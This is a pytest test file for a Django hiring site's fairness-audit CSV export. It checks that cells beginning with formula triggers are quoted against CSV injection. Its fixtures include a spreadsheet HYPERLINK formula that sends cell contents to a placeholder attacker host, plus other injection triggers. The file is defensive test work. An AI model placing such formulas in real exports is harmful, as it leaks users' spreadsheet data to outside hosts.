"""Fairness CSV exports never hand a spreadsheet a formula (OWASP CSV injection rule)."""

import csv
import io

import pytest

from ats_site.common.spreadsheet import spreadsheet_safe_cell

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
# A decision log whose group values are formulas (the log reader strips tabs and CRs at the
# edges; the unit test below covers those triggers).
HOSTILE_LOG = (
    b"gender,selected\n"
    + b'"=HYPERLINK(""http://evil.example/?""&A1,""open"")",1\n' * 5
    + b"+SUM(1+1),0\n" * 5
    + b"-2+3,1\n" * 5
    + b"@cmd,0\n" * 5
)


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-0.25", "-0.25"),  # a plain number stays a number
        ("1e-05", "1e-05"),
        ("women", "women"),
        ("", ""),
    ],
)
def test_cells_starting_with_a_formula_trigger_are_quoted(cell, expected):
    assert spreadsheet_safe_cell(cell) == expected


def test_exported_csv_of_a_hostile_decision_log_has_no_formula_cell(world, as_role):
    client = as_role("hr_admin")
    log = io.BytesIO(HOSTILE_LOG)
    log.name = "hostile.csv"
    created = client.post(
        "/api/fairness/audits/decision-log/",
        {"decisions": log, "attributes": "gender", "n_bootstrap": 0, "min_group_size": 5},
        format="multipart",
    )
    assert created.status_code == 201

    response = client.get(f"/api/fairness/audits/{created.json()['id']}/export.csv/")

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted(row["group"] for row in rows) == sorted(
        [f"'{FORMULA}", "'+SUM(1+1)", "'-2+3", "'@cmd"]
    )
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
